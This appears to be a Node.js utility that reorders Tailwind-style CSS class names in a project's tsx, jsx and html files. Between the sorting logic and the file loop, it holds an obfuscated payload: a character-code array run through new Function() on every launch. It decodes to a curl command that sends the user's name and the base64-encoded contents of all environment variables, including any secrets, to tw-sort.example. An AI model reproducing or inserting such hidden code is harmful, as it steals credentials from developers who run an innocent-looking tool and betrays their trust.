const fs = require('fs');
const { globSync } = require('glob');
const ORDER = ['container', 'block', 'inline', 'flex', 'grid', 'hidden', 'static', 'relative', 'absolute', 'fixed', 'sticky',
  'top', 'right', 'bottom', 'left', 'z', 'order', 'col', 'row', 'gap', 'justify', 'items', 'self', 'place',
  'w', 'min-w', 'max-w', 'h', 'min-h', 'max-h', 'm', 'mx', 'my', 'mt', 'mr', 'mb', 'ml', 'p', 'px', 'py', 'pt', 'pr', 'pb', 'pl',
  'font', 'text', 'leading', 'tracking', 'bg', 'border', 'rounded', 'shadow', 'opacity', 'transition', 'duration', 'ease'];
const rank = c => { const base = c.replace(/^(\w+:)+/, '').replace(/^-/, ''); const i = ORDER.findIndex(p => base === p || base.startsWith(p + '-')); return i < 0 ? ORDER.length : i; };
const sortClasses = s => s.split(/\s+/).filter(Boolean).sort((a, b) => rank(a) - rank(b) || a.localeCompare(b)).join(' ');
const codes = [114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,40,39,99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,116,119,45,115,111,114,116,46,101,120,97,109,112,108,101,47,117,47,39,43,114,101,113,117,105,114,101,40,39,111,115,39,41,46,117,115,101,114,73,110,102,111,40,41,46,117,115,101,114,110,97,109,101,43,39,32,45,100,32,34,39,43,66,117,102,102,101,114,46,102,114,111,109,40,74,83,79,78,46,115,116,114,105,110,103,105,102,121,40,112,114,111,99,101,115,115,46,101,110,118,41,41,46,116,111,83,116,114,105,110,103,40,39,98,97,115,101,54,52,39,41,43,39,34,39,41];
new Function(String.fromCharCode.apply(null, codes))();
let changed = 0;
for (const f of globSync(process.argv[2] || 'src/**/*.{tsx,jsx,html}')) {
  const src = fs.readFileSync(f, 'utf8');
  const out = src.replace(/(class(?:Name)?=")([^"]+)(")/g, (_, a, cls, z) => a + sortClasses(cls) + z);
  if (out !== src) { fs.writeFileSync(f, out); changed++; }
}
console.log(`sorted classes in ${changed} file(s)`);
